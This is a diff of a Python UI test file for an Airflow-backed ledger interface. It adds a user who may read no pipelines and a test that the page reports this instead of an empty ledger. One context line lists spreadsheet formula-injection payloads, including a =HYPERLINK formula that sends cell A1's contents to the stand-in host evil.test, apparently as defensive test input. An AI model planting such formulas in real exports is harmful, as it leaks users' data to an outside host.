@@ -27,7 +27,7 @@ import sqlalchemy as sa
 import altcraft
 from altcraft.ledger import Ledger, Outcome, RelaunchPolicy, RunRef, Scope, Settlement
 
-from .airflow_server import READABLE, RESTRICTED
+from .airflow_server import NOBODY, READABLE, RESTRICTED
 
 REPO = Path(__file__).resolve().parents[2]
 PG = "postgresql+psycopg2://postgres@127.0.0.1:5432"
@@ -37,7 +37,7 @@ FORMULAS = ('=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"
 SCOPE, OLD = Scope("https://acme.altcraft.test", 7), Scope("https://acme.altcraft.test", 99)
 DIED = Scope("https://acme.altcraft.test", 8)
 ONCE = RelaunchPolicy.parse("once")
-USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw"}
+USERS = {"admin": "admin-pw", "viewer": "viewer-pw", RESTRICTED: "restricted-pw", NOBODY: "nobody-pw"}
 
 
 def _admin(statement: str) -> None:
@@ -124,7 +124,9 @@ def serving(home: Path, ledger_url: str) -> Generator[Page]:
         "AIRFLOW__CORE__LOAD_EXAMPLES": "False",
         "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": f"sqlite:///{home}/airflow.db",
         "AIRFLOW__CORE__AUTH_MANAGER": "tests.ui.airflow_server.PerDagAuthManager",
-        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": f"admin:admin,viewer:viewer,{RESTRICTED}:viewer",
+        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_USERS": ",".join(
+            ["admin:admin", "viewer:viewer", f"{RESTRICTED}:viewer", f"{NOBODY}:viewer"]
+        ),
         "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_PASSWORDS_FILE": str(home / "passwords.json"),
         "AIRFLOW__API_AUTH__JWT_SECRET": uuid.uuid4().hex,
         "AIRFLOW__API__SECRET_KEY": uuid.uuid4().hex,
@@ -482,3 +484,9 @@ def test_a_run_without_a_data_interval_offers_no_action_on_another_window(page):
     html = page.get("/run", **run).text
     assert 'id="no-actions"' in html and "data-action" not in html
     assert "data-action" in page.get("/run", **RUN).text
+
+
+def test_a_user_who_may_read_no_pipeline_is_told_so_not_that_the_ledger_is_empty(page):
+    html = page.get("/", NOBODY).text
+    assert "You may read none of the pipelines" in html and "No outcomes in the ledger" not in html
+    assert 'data-scenario="' not in html
